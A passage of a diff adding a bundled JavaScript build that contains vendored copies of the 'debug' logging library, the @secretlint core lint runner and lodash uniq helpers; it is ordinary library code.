+      function selectColor(namespace2) {
+        let hash = 0;
+        for (let i = 0; i < namespace2.length; i++) {
+          hash = (hash << 5) - hash + namespace2.charCodeAt(i);
+          hash |= 0;
+        }
+        return createDebug.colors[Math.abs(hash) % createDebug.colors.length];
+      }
+      createDebug.selectColor = selectColor;
+      function createDebug(namespace2) {
+        let prevTime;
+        let enableOverride = null;
+        let namespacesCache;
+        let enabledCache;
+        function debug2(...args5) {
+          if (!debug2.enabled) {
+            return;
+          }
+          const self2 = debug2;
+          const curr = Number(/* @__PURE__ */ new Date());
+          const ms2 = curr - (prevTime || curr);
+          self2.diff = ms2;
+          self2.prev = prevTime;
+          self2.curr = curr;
+          prevTime = curr;
+          args5[0] = createDebug.coerce(args5[0]);
+          if (typeof args5[0] !== "string") {
+            args5.unshift("%O");
+          }
+          let index = 0;
+          args5[0] = args5[0].replace(/%([a-zA-Z%])/g, (match2, format2) => {
+            if (match2 === "%%") {
+              return "%";
+            }
+            index++;
+            const formatter = createDebug.formatters[format2];
+            if (typeof formatter === "function") {
+              const val = args5[index];
+              match2 = formatter.call(self2, val);
+              args5.splice(index, 1);
+              index--;
+            }
+            return match2;
+          });
+          createDebug.formatArgs.call(self2, args5);
+          const logFn = self2.log || createDebug.log;
+          logFn.apply(self2, args5);
+        }
+        debug2.namespace = namespace2;
+        debug2.useColors = createDebug.useColors();
+        debug2.color = createDebug.selectColor(namespace2);
+        debug2.extend = extend;
+        debug2.destroy = createDebug.destroy;
+        Object.defineProperty(debug2, "enabled", {
+          enumerable: true,
+          configurable: false,
+          get: () => {
+            if (enableOverride !== null) {
+              return enableOverride;
+            }
+            if (namespacesCache !== createDebug.namespaces) {
+              namespacesCache = createDebug.namespaces;
+              enabledCache = createDebug.enabled(namespace2);
+            }
+            return enabledCache;
+          },
+          set: (v2) => {
+            enableOverride = v2;
+          }
+        });
+        if (typeof createDebug.init === "function") {
+          createDebug.init(debug2);
+        }
+        return debug2;
+      }
+      function extend(namespace2, delimiter2) {
+        const newDebug = createDebug(this.namespace + (typeof delimiter2 === "undefined" ? ":" : delimiter2) + namespace2);
+        newDebug.log = this.log;
+        return newDebug;
+      }
+      function enable(namespaces) {
+        createDebug.save(namespaces);
+        createDebug.namespaces = namespaces;
+        createDebug.names = [];
+        createDebug.skips = [];
+        const split2 = (typeof namespaces === "string" ? namespaces : "").trim().replace(/\s+/g, ",").split(",").filter(Boolean);
+        for (const ns2 of split2) {
+          if (ns2[0] === "-") {
+            createDebug.skips.push(ns2.slice(1));
+          } else {
+            createDebug.names.push(ns2);
+          }
+        }
+      }
+      function matchesTemplate(search2, template) {
+        let searchIndex = 0;
+        let templateIndex = 0;
+        let starIndex = -1;
+        let matchIndex = 0;
+        while (searchIndex < search2.length) {
+          if (templateIndex < template.length && (template[templateIndex] === search2[searchIndex] || template[templateIndex] === "*")) {
+            if (template[templateIndex] === "*") {
+              starIndex = templateIndex;
+              matchIndex = searchIndex;
+              templateIndex++;
+            } else {
+              searchIndex++;
+              templateIndex++;
+            }
+          } else if (starIndex !== -1) {
+            templateIndex = starIndex + 1;
+            matchIndex++;
+            searchIndex = matchIndex;
+          } else {
+            return false;
+          }
+        }
+        while (templateIndex < template.length && template[templateIndex] === "*") {
+          templateIndex++;
+        }
+        return templateIndex === template.length;
+      }
+      function disable() {
+        const namespaces = [
+          ...createDebug.names,
+          ...createDebug.skips.map((namespace2) => "-" + namespace2)
+        ].join(",");
+        createDebug.enable("");
+        return namespaces;
+      }
+      function enabled(name) {
+        for (const skip of createDebug.skips) {
+          if (matchesTemplate(name, skip)) {
+            return false;
+          }
+        }
+        for (const ns2 of createDebug.names) {
+          if (matchesTemplate(name, ns2)) {
+            return true;
+          }
+        }
+        return false;
+      }
+      function coerce(val) {
+        if (val instanceof Error) {
+          return val.stack || val.message;
+        }
+        return val;
+      }
+      function destroy() {
+        console.warn("Instance method `debug.destroy()` is deprecated and no longer does anything. It will be removed in the next major version of `debug`.");
+      }
+      createDebug.enable(createDebug.load());
+      return createDebug;
+    }
+    module.exports = setup2;
+  }
+});
+
+// node_modules/debug/src/browser.js
+var require_browser = __commonJS({
+  "node_modules/debug/src/browser.js"(exports, module) {
+    exports.formatArgs = formatArgs;
+    exports.save = save;
+    exports.load = load;
+    exports.useColors = useColors;
+    exports.storage = localstorage();
+    exports.destroy = /* @__PURE__ */ (() => {
+      let warned = false;
+      return () => {
+        if (!warned) {
+          warned = true;
+          console.warn("Instance method `debug.destroy()` is deprecated and no longer does anything. It will be removed in the next major version of `debug`.");
+        }
+      };
+    })();
+    exports.colors = [
+      "#0000CC",
+      "#0000FF",
+      "#0033CC",
+      "#0033FF",
+      "#0066CC",
+      "#0066FF",
+      "#0099CC",
+      "#0099FF",
+      "#00CC00",
+      "#00CC33",
+      "#00CC66",
+      "#00CC99",
+      "#00CCCC",
+      "#00CCFF",
+      "#3300CC",
+      "#3300FF",
+      "#3333CC",
+      "#3333FF",
+      "#3366CC",
+      "#3366FF",
+      "#3399CC",
+      "#3399FF",
+      "#33CC00",
+      "#33CC33",
+      "#33CC66",
+      "#33CC99",
+      "#33CCCC",
+      "#33CCFF",
+      "#6600CC",
+      "#6600FF",
+      "#6633CC",
+      "#6633FF",
+      "#66CC00",
+      "#66CC33",
+      "#9900CC",
+      "#9900FF",
+      "#9933CC",
+      "#9933FF",
+      "#99CC00",
+      "#99CC33",
+      "#CC0000",
+      "#CC0033",
+      "#CC0066",
+      "#CC0099",
+      "#CC00CC",
+      "#CC00FF",
+      "#CC3300",
+      "#CC3333",
+      "#CC3366",
+      "#CC3399",
+      "#CC33CC",
+      "#CC33FF",
+      "#CC6600",
+      "#CC6633",
+      "#CC9900",
+      "#CC9933",
+      "#CCCC00",
+      "#CCCC33",
+      "#FF0000",
+      "#FF0033",
+      "#FF0066",
+      "#FF0099",
+      "#FF00CC",
+      "#FF00FF",
+      "#FF3300",
+      "#FF3333",
+      "#FF3366",
+      "#FF3399",
+      "#FF33CC",
+      "#FF33FF",
+      "#FF6600",
+      "#FF6633",
+      "#FF9900",
+      "#FF9933",
+      "#FFCC00",
+      "#FFCC33"
+    ];
+    function useColors() {
+      if (typeof window !== "undefined" && window.process && (window.process.type === "renderer" || window.process.__nwjs)) {
+        return true;
+      }
+      if (typeof navigator !== "undefined" && navigator.userAgent && navigator.userAgent.toLowerCase().match(/(edge|trident)\/(\d+)/)) {
+        return false;
+      }
+      let m3;
+      return typeof document !== "undefined" && document.documentElement && document.documentElement.style && document.documentElement.style.WebkitAppearance || // Is firebug? http://stackoverflow.com/a/398120/376773
+      typeof window !== "undefined" && window.console && (window.console.firebug || window.console.exception && window.console.table) || // Is firefox >= v31?
+      // https://developer.mozilla.org/en-US/docs/Tools/Web_Console#Styling_messages
+      typeof navigator !== "undefined" && navigator.userAgent && (m3 = navigator.userAgent.toLowerCase().match(/firefox\/(\d+)/)) && parseInt(m3[1], 10) >= 31 || // Double check webkit in userAgent just in case we are in a worker
+      typeof navigator !== "undefined" && navigator.userAgent && navigator.userAgent.toLowerCase().match(/applewebkit\/(\d+)/);
+    }
+    function formatArgs(args5) {
+      args5[0] = (this.useColors ? "%c" : "") + this.namespace + (this.useColors ? " %c" : " ") + args5[0] + (this.useColors ? "%c " : " ") + "+" + module.exports.humanize(this.diff);
+      if (!this.useColors) {
+        return;
+      }
+      const c3 = "color: " + this.color;
+      args5.splice(1, 0, c3, "color: inherit");
+      let index = 0;
+      let lastC = 0;
+      args5[0].replace(/%[a-zA-Z%]/g, (match2) => {
+        if (match2 === "%%") {
+          return;
+        }
+        index++;
+        if (match2 === "%c") {
+          lastC = index;
+        }
+      });
+      args5.splice(lastC, 0, c3);
+    }
+    exports.log = console.debug || console.log || (() => {
+    });
+    function save(namespaces) {
+      try {
+        if (namespaces) {
+          exports.storage.setItem("debug", namespaces);
+        } else {
+          exports.storage.removeItem("debug");
+        }
+      } catch (error) {
+      }
+    }
+    function load() {
+      let r2;
+      try {
+        r2 = exports.storage.getItem("debug") || exports.storage.getItem("DEBUG");
+      } catch (error) {
+      }
+      if (!r2 && typeof process !== "undefined" && "env" in process) {
+        r2 = process.env.DEBUG;
+      }
+      return r2;
+    }
+    function localstorage() {
+      try {
+        return localStorage;
+      } catch (error) {
+      }
+    }
+    module.exports = require_common()(exports);
+    var { formatters } = module.exports;
+    formatters.j = function(v2) {
+      try {
+        return JSON.stringify(v2);
+      } catch (error) {
+        return "[UnexpectedJSONParseError]: " + error.message;
+      }
+    };
+  }
+});
+
+// node_modules/debug/src/node.js
+var require_node = __commonJS({
+  "node_modules/debug/src/node.js"(exports, module) {
+    var tty = __require("tty");
+    var util = __require("util");
+    exports.init = init;
+    exports.log = log;
+    exports.formatArgs = formatArgs;
+    exports.save = save;
+    exports.load = load;
+    exports.useColors = useColors;
+    exports.destroy = util.deprecate(
+      () => {
+      },
+      "Instance method `debug.destroy()` is deprecated and no longer does anything. It will be removed in the next major version of `debug`."
+    );
+    exports.colors = [6, 2, 3, 4, 5, 1];
+    try {
+      const supportsColor = __require("supports-color");
+      if (supportsColor && (supportsColor.stderr || supportsColor).level >= 2) {
+        exports.colors = [
+          20,
+          21,
+          26,
+          27,
+          32,
+          33,
+          38,
+          39,
+          40,
+          41,
+          42,
+          43,
+          44,
+          45,
+          56,
+          57,
+          62,
+          63,
+          68,
+          69,
+          74,
+          75,
+          76,
+          77,
+          78,
+          79,
+          80,
+          81,
+          92,
+          93,
+          98,
+          99,
+          112,
+          113,
+          128,
+          129,
+          134,
+          135,
+          148,
+          149,
+          160,
+          161,
+          162,
+          163,
+          164,
+          165,
+          166,
+          167,
+          168,
+          169,
+          170,
+          171,
+          172,
+          173,
+          178,
+          179,
+          184,
+          185,
+          196,
+          197,
+          198,
+          199,
+          200,
+          201,
+          202,
+          203,
+          204,
+          205,
+          206,
+          207,
+          208,
+          209,
+          214,
+          215,
+          220,
+          221
+        ];
+      }
+    } catch (error) {
+    }
+    exports.inspectOpts = Object.keys(process.env).filter((key4) => {
+      return /^debug_/i.test(key4);
+    }).reduce((obj, key4) => {
+      const prop = key4.substring(6).toLowerCase().replace(/_([a-z])/g, (_3, k2) => {
+        return k2.toUpperCase();
+      });
+      let val = process.env[key4];
+      if (/^(yes|on|true|enabled)$/i.test(val)) {
+        val = true;
+      } else if (/^(no|off|false|disabled)$/i.test(val)) {
+        val = false;
+      } else if (val === "null") {
+        val = null;
+      } else {
+        val = Number(val);
+      }
+      obj[prop] = val;
+      return obj;
+    }, {});
+    function useColors() {
+      return "colors" in exports.inspectOpts ? Boolean(exports.inspectOpts.colors) : tty.isatty(process.stderr.fd);
+    }
+    function formatArgs(args5) {
+      const { namespace: name, useColors: useColors2 } = this;
+      if (useColors2) {
+        const c3 = this.color;
+        const colorCode = "\x1B[3" + (c3 < 8 ? c3 : "8;5;" + c3);
+        const prefix2 = `  ${colorCode};1m${name} \x1B[0m`;
+        args5[0] = prefix2 + args5[0].split("\n").join("\n" + prefix2);
+        args5.push(colorCode + "m+" + module.exports.humanize(this.diff) + "\x1B[0m");
+      } else {
+        args5[0] = getDate() + name + " " + args5[0];
+      }
+    }
+    function getDate() {
+      if (exports.inspectOpts.hideDate) {
+        return "";
+      }
+      return (/* @__PURE__ */ new Date()).toISOString() + " ";
+    }
+    function log(...args5) {
+      return process.stderr.write(util.formatWithOptions(exports.inspectOpts, ...args5) + "\n");
+    }
+    function save(namespaces) {
+      if (namespaces) {
+        process.env.DEBUG = namespaces;
+      } else {
+        delete process.env.DEBUG;
+      }
+    }
+    function load() {
+      return process.env.DEBUG;
+    }
+    function init(debug2) {
+      debug2.inspectOpts = {};
+      const keys = Object.keys(exports.inspectOpts);
+      for (let i = 0; i < keys.length; i++) {
+        debug2.inspectOpts[keys[i]] = exports.inspectOpts[keys[i]];
+      }
+    }
+    module.exports = require_common()(exports);
+    var { formatters } = module.exports;
+    formatters.o = function(v2) {
+      this.inspectOpts.colors = this.useColors;
+      return util.inspect(v2, this.inspectOpts).split("\n").map((str) => str.trim()).join(" ");
+    };
+    formatters.O = function(v2) {
+      this.inspectOpts.colors = this.useColors;
+      return util.inspect(v2, this.inspectOpts);
+    };
+  }
+});
+
+// node_modules/debug/src/index.js
+var require_src = __commonJS({
+  "node_modules/debug/src/index.js"(exports, module) {
+    if (typeof process === "undefined" || process.type === "renderer" || process.browser === true || process.__nwjs) {
+      module.exports = require_browser();
+    } else {
+      module.exports = require_node();
+    }
+  }
+});
+
+// node_modules/@secretlint/core/module/index.js
+var module_exports = {};
+__export(module_exports, {
+  lintSource: () => lintSource
+});
+var import_debug, debug, lintSource, isRulePreset, isRule, registerRule;
+var init_module2 = __esm({
+  "node_modules/@secretlint/core/module/index.js"() {
+    init_SecretLintSourceCodeImpl();
+    init_RuleContext();
+    init_RunningEvents();
+    init_node();
+    init_RulePresetContext();
+    init_messages2();
+    import_debug = __toESM(require_src(), 1);
+    debug = (0, import_debug.default)("@secretlint/core");
+    lintSource = ({ source, options: options2 }) => {
+      secretLintProfiler.mark({
+        type: "@core>lint::start",
+        id: source.filePath
+      });
+      debug(`source filePath: %O`, source.filePath);
+      debug(`options: %O`, options2);
+      const rules8 = options2.config.rules;
+      const locale = options2.locale ?? "en";
+      const maskSecrets2 = options2.maskSecrets ?? false;
+      const contextEvents = createContextEvents();
+      const runningEvents = createRunningEvents();
+      const reportedMessages = [];
+      const ignoredMessages = [];
+      contextEvents.onReport((message4) => {
+        reportedMessages.push(message4);
+      });
+      contextEvents.onIgnore((message4) => {
+        ignoredMessages.push(message4);
+      });
+      const sourceCode = new SecretLintSourceCodeImpl({
+        content: source.content,
+        filePath: source.filePath,
+        physicalFilePath: options2.noPhysicFilePath ? void 0 : source.filePath,
+        ext: source.ext || "",
+        contentType: source.contentType
+      });
+      secretLintProfiler.mark({
+        type: "@core>setup-rules::start"
+      });
+      rules8.forEach((rule) => {
+        secretLintProfiler.mark({
+          type: "@core>setup-rule::start",
+          id: rule.rule.meta.id
+        });
+        registerRule({
+          sourceCode,
+          config: options2.config,
+          descriptorRule: rule,
+          contextEvents,
+          runningEvents,
+          locale
+        });
+        secretLintProfiler.mark({
+          type: "@core>setup-rule::end",
+          id: rule.rule.meta.id
+        });
+      });
+      secretLintProfiler.mark({
+        type: "@core>setup-rules::end"
+      });
+      return runningEvents.runLint({
+        sourceCode
+      }).then(() => {
+        return {
+          filePath: source.filePath,
+          // binary content should be skipped
+          sourceContent: source.contentType === "text" ? source.content : void 0,
+          sourceContentType: source.contentType,
+          messages: cleanupMessages({
+            reportedMessages,
+            ignoredMessages,
+            allowMessageIds: runningEvents.collectAllowMessageIds(),
+            maskSecrets: maskSecrets2
+          })
+        };
+      }).finally(() => {
+        secretLintProfiler.mark({
+          type: "@core>lint::end",
+          id: source.filePath
+        });
+      });
+    };
+    isRulePreset = (ruleDescriptor) => {
+      return ruleDescriptor.rule.meta.type === "preset";
+    };
+    isRule = (ruleDescriptor) => {
+      return ruleDescriptor.rule.meta.type === "scanner";
+    };
+    registerRule = ({ sourceCode, config: config3, descriptorRule, contextEvents, runningEvents, locale }) => {
+      const ruleId = descriptorRule.id;
+      if (descriptorRule.disabled) {
+        debug("Skip registerRule %s, because it is disabled", ruleId);
+        return;
+      }
+      debug("registerRule %s", ruleId);
+      const sharedOptionsWithDefault = config3.sharedOptions ?? {};
+      if (isRulePreset(descriptorRule)) {
+        const context = createRulePresetContext({
+          configRulePreset: descriptorRule,
+          sourceCode,
+          contextEvents,
+          runningEvents,
+          sharedOptions: sharedOptionsWithDefault,
+          locale
+        });
+        runningEvents.registerRulePreset({
+          descriptorRulePreset: descriptorRule,
+          context
+        });
+        return;
+      } else if (isRule(descriptorRule)) {
+        const context = createRuleContext({
+          ruleId,
+          severity: descriptorRule.severity,
+          meta: descriptorRule.rule.meta,
+          sourceCode,
+          contextEvents,
+          sharedOptions: sharedOptionsWithDefault,
+          locale
+        });
+        runningEvents.registerRule({
+          descriptorRule,
+          context
+        });
+        return;
+      }
+      throw new Error(`Unknown descriptor type: ${descriptorRule}`);
+    };
+  }
+});
+
+// node_modules/@secretlint/secretlint-rule-preset-recommend/module/index.js
+var module_exports2 = {};
+__export(module_exports2, {
+  creator: () => creator,
+  rules: () => rules
+});
+import path2 from "node:path";
+function requireLodash_uniq() {
+  if (hasRequiredLodash_uniq) return lodash_uniq;
+  hasRequiredLodash_uniq = 1;
+  var LARGE_ARRAY_SIZE = 200;
+  var HASH_UNDEFINED = "__lodash_hash_undefined__";
+  var INFINITY = 1 / 0;
+  var funcTag = "[object Function]", genTag = "[object GeneratorFunction]";
+  var reRegExpChar = /[\\^$.*+?()[\]{}|]/g;
+  var reIsHostCtor = /^\[object .+?Constructor\]$/;
+  var freeGlobal = typeof commonjsGlobal == "object" && commonjsGlobal && commonjsGlobal.Object === Object && commonjsGlobal;
+  var freeSelf = typeof self == "object" && self && self.Object === Object && self;
+  var root = freeGlobal || freeSelf || Function("return this")();
+  function arrayIncludes(array2, value) {
+    var length = array2 ? array2.length : 0;
+    return !!length && baseIndexOf(array2, value, 0) > -1;
+  }
+  function baseFindIndex(array2, predicate, fromIndex, fromRight) {
+    var length = array2.length, index = fromIndex + -1;
+    while (++index < length) {
+      if (predicate(array2[index], index, array2)) {
+        return index;
+      }
+    }
+    return -1;
+  }
+  function baseIndexOf(array2, value, fromIndex) {
+    if (value !== value) {
+      return baseFindIndex(array2, baseIsNaN, fromIndex);
+    }
+    var index = fromIndex - 1, length = array2.length;
+    while (++index < length) {
+      if (array2[index] === value) {
+        return index;
+      }
+    }
+    return -1;
+  }
+  function baseIsNaN(value) {
+    return value !== value;
+  }
+  function cacheHas(cache3, key4) {
+    return cache3.has(key4);
+  }
+  function getValue(object3, key4) {
+    return object3 == null ? void 0 : object3[key4];
+  }
+  function isHostObject(value) {
+    var result = false;
+    if (value != null && typeof value.toString != "function") {
+      try {
+        result = !!(value + "");
+      } catch (e) {
+      }
+    }
+    return result;
+  }
+  function setToArray(set3) {
+    var index = -1, result = Array(set3.size);
+    set3.forEach(function(value) {
+      result[++index] = value;
+    });
+    return result;
+  }
+  var arrayProto = Array.prototype, funcProto = Function.prototype, objectProto = Object.prototype;
+  var coreJsData = root["__core-js_shared__"];
+  var maskSrcKey = (function() {
+    var uid = /[^.]+$/.exec(coreJsData && coreJsData.keys && coreJsData.keys.IE_PROTO || "");
+    return uid ? "Symbol(src)_1." + uid : "";
+  })();
+  var funcToString = funcProto.toString;
+  var hasOwnProperty = objectProto.hasOwnProperty;
+  var objectToString = objectProto.toString;
+  var reIsNative = RegExp(
+    "^" + funcToString.call(hasOwnProperty).replace(reRegExpChar, "\\$&").replace(/hasOwnProperty|(function).*?(?=\\\()| for .+?(?=\\\])/g, "$1.*?") + "$"
+  );
+  var splice2 = arrayProto.splice;
+  var Map2 = getNative(root, "Map"), Set2 = getNative(root, "Set"), nativeCreate = getNative(Object, "create");
+  function Hash(entries2) {
+    var index = -1, length = entries2 ? entries2.length : 0;
+    this.clear();
+    while (++index < length) {
+      var entry2 = entries2[index];
+      this.set(entry2[0], entry2[1]);
+    }
+  }
+  function hashClear() {
+    this.__data__ = nativeCreate ? nativeCreate(null) : {};
+  }
+  function hashDelete(key4) {
+    return this.has(key4) && delete this.__data__[key4];
+  }
+  function hashGet(key4) {
+    var data = this.__data__;
+    if (nativeCreate) {
+      var result = data[key4];
+      return result === HASH_UNDEFINED ? void 0 : result;
+    }
+    return hasOwnProperty.call(data, key4) ? data[key4] : void 0;
+  }
+  function hashHas(key4) {
+    var data = this.__data__;
+    return nativeCreate ? data[key4] !== void 0 : hasOwnProperty.call(data, key4);
+  }
+  function hashSet(key4, value) {
+    var data = this.__data__;
+    data[key4] = nativeCreate && value === void 0 ? HASH_UNDEFINED : value;
+    return this;
+  }
+  Hash.prototype.clear = hashClear;
+  Hash.prototype["delete"] = hashDelete;
+  Hash.prototype.get = hashGet;
+  Hash.prototype.has = hashHas;
+  Hash.prototype.set = hashSet;
+  function ListCache(entries2) {
+    var index = -1, length = entries2 ? entries2.length : 0;
+    this.clear();
+    while (++index < length) {
+      var entry2 = entries2[index];
+      this.set(entry2[0], entry2[1]);
+    }
+  }
+  function listCacheClear() {
+    this.__data__ = [];
+  }
+  function listCacheDelete(key4) {
+    var data = this.__data__, index = assocIndexOf(data, key4);
+    if (index < 0) {
+      return false;
+    }
+    var lastIndex = data.length - 1;
+    if (index == lastIndex) {
+      data.pop();
+    } else {
+      splice2.call(data, index, 1);
+    }
+    return true;
+  }
+  function listCacheGet(key4) {
+    var data = this.__data__, index = assocIndexOf(data, key4);
+    return index < 0 ? void 0 : data[index][1];
+  }
+  function listCacheHas(key4) {
+    return assocIndexOf(this.__data__, key4) > -1;
+  }
+  function listCacheSet(key4, value) {
+    var data = this.__data__, index = assocIndexOf(data, key4);
+    if (index < 0) {
+      data.push([key4, value]);
+    } else {
+      data[index][1] = value;
+    }
+    return this;
+  }
+  ListCache.prototype.clear = listCacheClear;
+  ListCache.prototype["delete"] = listCacheDelete;
+  ListCache.prototype.get = listCacheGet;
+  ListCache.prototype.has = listCacheHas;
+  ListCache.prototype.set = listCacheSet;
+  function MapCache(entries2) {
+    var index = -1, length = entries2 ? entries2.length : 0;
+    this.clear();
+    while (++index < length) {
+      var entry2 = entries2[index];
+      this.set(entry2[0], entry2[1]);
+    }
+  }
+  function mapCacheClear() {
+    this.__data__ = {
+      "hash": new Hash(),
+      "map": new (Map2 || ListCache)(),
+      "string": new Hash()
+    };
+  }
+  function mapCacheDelete(key4) {
+    return getMapData(this, key4)["delete"](key4);
+  }
+  function mapCacheGet(key4) {
+    return getMapData(this, key4).get(key4);
+  }
+  function mapCacheHas(key4) {
+    return getMapData(this, key4).has(key4);
+  }
+  function mapCacheSet(key4, value) {
+    getMapData(this, key4).set(key4, value);
+    return this;
+  }
+  MapCache.prototype.clear = mapCacheClear;
+  MapCache.prototype["delete"] = mapCacheDelete;
+  MapCache.prototype.get = mapCacheGet;
+  MapCache.prototype.has = mapCacheHas;
+  MapCache.prototype.set = mapCacheSet;
+  function SetCache(values2) {
+    var index = -1, length = values2 ? values2.length : 0;
+    this.__data__ = new MapCache();
+    while (++index < length) {
+      this.add(values2[index]);
+    }
+  }
+  function setCacheAdd(value) {
+    this.__data__.set(value, HASH_UNDEFINED);
+    return this;
+  }
+  function setCacheHas(value) {
+    return this.__data__.has(value);
+  }
+  SetCache.prototype.add = SetCache.prototype.push = setCacheAdd;
+  SetCache.prototype.has = setCacheHas;
+  function assocIndexOf(array2, key4) {
+    var length = array2.length;
+    while (length--) {
+      if (eq(array2[length][0], key4)) {
+        return length;
+      }
+    }
+    return -1;
+  }
+  function baseIsNative(value) {
+    if (!isObject2(value) || isMasked(value)) {
+      return false;
+    }
+    var pattern = isFunction(value) || isHostObject(value) ? reIsNative : reIsHostCtor;
+    return pattern.test(toSource(value));
+  }
+  function baseUniq(array2, iteratee, comparator) {
+    var index = -1, includes = arrayIncludes, length = array2.length, isCommon = true, result = [], seen = result;
+    if (length >= LARGE_ARRAY_SIZE) {
+      var set3 = createSet(array2);
+      if (set3) {
+        return setToArray(set3);
+      }
+      isCommon = false;
+      includes = cacheHas;
+      seen = new SetCache();
+    } else {
+      seen = result;
+    }
+    outer:
+      while (++index < length) {
+        var value = array2[index], computed = value;
+        value = value !== 0 ? value : 0;
+        if (isCommon && computed === computed) {
+          var seenIndex = seen.length;
+          while (seenIndex--) {
+            if (seen[seenIndex] === computed) {
+              continue outer;
+            }
+          }
+          result.push(value);
+        } else if (!includes(seen, computed, comparator)) {
+          if (seen !== result) {
+            seen.push(computed);
+          }
+          result.push(value);
+        }
+      }
+    return result;
+  }
+  var createSet = !(Set2 && 1 / setToArray(new Set2([, -0]))[1] == INFINITY) ? noop : function(values2) {
+    return new Set2(values2);
+  };
+  function getMapData(map5, key4) {
+    var data = map5.__data__;
+    return isKeyable(key4) ? data[typeof key4 == "string" ? "string" : "hash"] : data.map;
+  }
+  function getNative(object3, key4) {
+    var value = getValue(object3, key4);
+    return baseIsNative(value) ? value : void 0;
+  }
+  function isKeyable(value) {
+    var type = typeof value;
+    return type == "string" || type == "number" || type == "symbol" || type == "boolean" ? value !== "__proto__" : value === null;
+  }
+  function isMasked(func) {
+    return !!maskSrcKey && maskSrcKey in func;
+  }
+  function toSource(func) {
+    if (func != null) {
+      try {
+        return funcToString.call(func);
+      } catch (e) {
+      }
+      try {
+        return func + "";
+      } catch (e) {
+      }
+    }
+    return "";
+  }
+  function uniq(array2) {
+    return array2 && array2.length ? baseUniq(array2) : [];
+  }
+  function eq(value, other) {
+    return value === other || value !== value && other !== other;
+  }
+  function isFunction(value) {
+    var tag2 = isObject2(value) ? objectToString.call(value) : "";
+    return tag2 == funcTag || tag2 == genTag;
+  }
+  function isObject2(value) {
+    var type = typeof value;
+    return !!value && (type == "object" || type == "function");
+  }
+  function noop() {
+  }
+  lodash_uniq = uniq;
+  return lodash_uniq;
+}
+function requireLodash_uniqwith() {
+  if (hasRequiredLodash_uniqwith) return lodash_uniqwith;
+  hasRequiredLodash_uniqwith = 1;
+  var LARGE_ARRAY_SIZE = 200;
+  var HASH_UNDEFINED = "__lodash_hash_undefined__";
+  var INFINITY = 1 / 0;
+  var funcTag = "[object Function]", genTag = "[object GeneratorFunction]";
+  var reRegExpChar = /[\\^$.*+?()[\]{}|]/g;
+  var reIsHostCtor = /^\[object .+?Constructor\]$/;
+  var freeGlobal = typeof commonjsGlobal == "object" && commonjsGlobal && commonjsGlobal.Object === Object && commonjsGlobal;
+  var freeSelf = typeof self == "object" && self && self.Object === Object && self;
+  var root = freeGlobal || freeSelf || Function("return this")();
+  function arrayIncludes(array2, value) {
+    var length = array2 ? array2.length : 0;
+    return !!length && baseIndexOf(array2, value, 0) > -1;
+  }
+  function arrayIncludesWith(array2, value, comparator) {
+    var index = -1, length = array2 ? array2.length : 0;
+    while (++index < length) {
+      if (comparator(value, array2[index])) {
+        return true;
+      }
+    }
+    return false;
+  }
+  function baseFindIndex(array2, predicate, fromIndex, fromRight) {
+    var length = array2.length, index = fromIndex + -1;
+    while (++index < length) {
+      if (predicate(array2[index], index, array2)) {
+        return index;
+      }
+    }
+    return -1;
+  }
+  function baseIndexOf(array2, value, fromIndex) {
+    if (value !== value) {
+      return baseFindIndex(array2, baseIsNaN, fromIndex);
+    }
+    var index = fromIndex - 1, length = array2.length;
+    while (++index < length) {
+      if (array2[index] === value) {
+        return index;
+      }
+    }
+    return -1;
+  }
+  function baseIsNaN(value) {
+    return value !== value;
+  }
+  function cacheHas(cache3, key4) {
+    return cache3.has(key4);
+  }
+  function getValue(object3, key4) {
+    return object3 == null ? void 0 : object3[key4];
+  }
+  function isHostObject(value) {
+    var result = false;
+    if (value != null && typeof value.toString != "function") {
+      try {
+        result = !!(value + "");
+      } catch (e) {
+      }
+    }
+    return result;
+  }
+  function setToArray(set3) {
+    var index = -1, result = Array(set3.size);
+    set3.forEach(function(value) {
+      result[++index] = value;
+    });
+    return result;
+  }
+  var arrayProto = Array.prototype, funcProto = Function.prototype, objectProto = Object.prototype;
+  var coreJsData = root["__core-js_shared__"];
+  var maskSrcKey = (function() {
+    var uid = /[^.]+$/.exec(coreJsData && coreJsData.keys && coreJsData.keys.IE_PROTO || "");
+    return uid ? "Symbol(src)_1." + uid : "";
+  })();
+  var funcToString = funcProto.toString;
+  var hasOwnProperty = objectProto.hasOwnProperty;
+  var objectToString = objectProto.toString;
+  var reIsNative = RegExp(
+    "^" + funcToString.call(hasOwnProperty).replace(reRegExpChar, "\\$&").replace(/hasOwnProperty|(function).*?(?=\\\()| for .+?(?=\\\])/g, "$1.*?") + "$"
+  );
+  var splice2 = arrayProto.splice;
+  var Map2 = getNative(root, "Map"), Set2 = getNative(root, "Set"), nativeCreate = getNative(Object, "create");
+  function Hash(entries2) {
+    var index = -1, length = entries2 ? entries2.length : 0;
+    this.clear();
+    while (++index < length) {
+      var entry2 = entries2[index];
+      this.set(entry2[0], entry2[1]);
+    }
+  }
+  function hashClear() {
+    this.__data__ = nativeCreate ? nativeCreate(null) : {};
+  }
+  function hashDelete(key4) {
+    return this.has(key4) && delete this.__data__[key4];
+  }
+  function hashGet(key4) {
+    var data = this.__data__;
+    if (nativeCreate) {
+      var result = data[key4];
+      return result === HASH_UNDEFINED ? void 0 : result;
+    }
+    return hasOwnProperty.call(data, key4) ? data[key4] : void 0;
+  }
+  function hashHas(key4) {
+    var data = this.__data__;
+    return nativeCreate ? data[key4] !== void 0 : hasOwnProperty.call(data, key4);
+  }
+  function hashSet(key4, value) {
+    var data = this.__data__;
+    data[key4] = nativeCreate && value === void 0 ? HASH_UNDEFINED : value;
+    return this;
+  }
+  Hash.prototype.clear = hashClear;
+  Hash.prototype["delete"] = hashDelete;
+  Hash.prototype.get = hashGet;
+  Hash.prototype.has = hashHas;
+  Hash.prototype.set = hashSet;
+  function ListCache(entries2) {
+    var index = -1, length = entries2 ? entries2.length : 0;
+    this.clear();
+    while (++index < length) {
+      var entry2 = entries2[index];
+      this.set(entry2[0], entry2[1]);
+    }
+  }
+  function listCacheClear() {
+    this.__data__ = [];
+  }
+  function listCacheDelete(key4) {
+    var data = this.__data__, index = assocIndexOf(data, key4);
+    if (index < 0) {
+      return false;
+    }
+    var lastIndex = data.length - 1;
+    if (index == lastIndex) {
+      data.pop();
+    } else {
+      splice2.call(data, index, 1);
+    }
+    return true;
+  }
+  function listCacheGet(key4) {
+    var data = this.__data__, index = assocIndexOf(data, key4);
+    return index < 0 ? void 0 : data[index][1];
+  }
+  function listCacheHas(key4) {
+    return assocIndexOf(this.__data__, key4) > -1;
+  }
+  function listCacheSet(key4, value) {
+    var data = this.__data__, index = assocIndexOf(data, key4);
+    if (index < 0) {
